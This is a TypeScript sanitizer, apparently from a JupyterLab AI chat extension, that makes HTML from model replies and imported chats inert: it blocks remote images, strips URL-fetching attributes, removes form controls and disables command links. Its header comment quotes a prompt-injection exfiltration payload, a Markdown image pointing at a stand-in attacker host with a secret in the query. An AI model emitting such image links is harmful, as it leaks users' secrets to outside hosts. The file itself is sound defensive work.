/**
 * HTML from untrusted Markdown (model replies, imported chats) made inert: nothing is
 * loaded from another host without the user's consent (a remote image is the known
 * exfiltration channel of a prompt injection: `![](https://attacker/?q=<secret>)`), and
 * no form control is shown (JupyterLab's sanitizer keeps them, so an imported chat
 * could ask for a token in a real-looking `<input>`).
 */
import { IRenderMime } from '@jupyterlab/rendermime';

/** The class of the placeholder that stands for a remote image until the user loads it. */
export const REMOTE_IMAGE_CLASS = 'jp-OmniPanel-remoteImage';

/** Form controls, removed with their content (a `<form>` keeps its content). */
const CONTROLS = 'input, textarea, select, button, datalist, output';

/** Attributes through which an element fetches a URL as it is created. */
const FETCHING = ['src', 'srcset', 'poster', 'data'];

/** Whether a URL loads without leaving this server (same origin, data: or blob:). */
export function isLocalURL(url: string): boolean {
  try {
    const parsed = new URL(url, document.baseURI);
    return (
      parsed.protocol === 'data:' ||
      parsed.protocol === 'blob:' ||
      parsed.origin === window.location.origin
    );
  } catch {
    return false;
  }
}

/** Rewrite sanitized HTML so that it loads nothing remote and holds no form control. */
export function makeInert(html: string): string {
  // A parsed document has no browsing context: nothing in it loads while we work.
  const doc = new DOMParser().parseFromString(html, 'text/html');
  for (const image of doc.querySelectorAll('img')) {
    const src = image.getAttribute('src') ?? '';
    if (image.hasAttribute('srcset') || !isLocalURL(src)) {
      const placeholder = doc.createElement('span');
      placeholder.className = REMOTE_IMAGE_CLASS;
      placeholder.dataset.src = src;
      placeholder.dataset.alt = image.getAttribute('alt') ?? '';
      image.replaceWith(placeholder);
    }
  }
  for (const element of doc.body.querySelectorAll('*')) {
    for (const name of FETCHING) {
      const value = element.getAttribute(name);
      if (value !== null && (name === 'srcset' || !isLocalURL(value))) {
        element.removeAttribute(name);
      }
    }
    if (/url\s*\(/i.test(element.getAttribute('style') ?? '')) {
      element.removeAttribute('style');
    }
    // A click on a reply must not run a JupyterLab command.
    element.removeAttribute('data-commandlinker-command');
    element.removeAttribute('data-commandlinker-args');
  }
  // A GFM task list's checkbox becomes the character it shows.
  for (const box of doc.querySelectorAll('input[type="checkbox"]')) {
    box.replaceWith((box as HTMLInputElement).checked ? '☑' : '☐');
  }
  doc.querySelectorAll(CONTROLS).forEach(control => control.remove());
  for (const form of doc.querySelectorAll('form')) {
    form.replaceWith(...form.childNodes);
  }
  return doc.body.innerHTML;
}

/** A sanitizer that runs JupyterLab's, then makes the result inert. */
export class UntrustedSanitizer implements IRenderMime.ISanitizer {
  constructor(private readonly base: IRenderMime.ISanitizer) {}

  get allowNamedProperties(): boolean | undefined {
    return this.base.allowNamedProperties;
  }

  get allowCommandLinker(): boolean {
    return false;
  }

  getAutolink(): boolean {
    return this.base.getAutolink?.() ?? true;
  }

  sanitize(dirty: string, options?: IRenderMime.ISanitizerOptions): string {
    return makeInert(this.base.sanitize(dirty, options));
  }
}
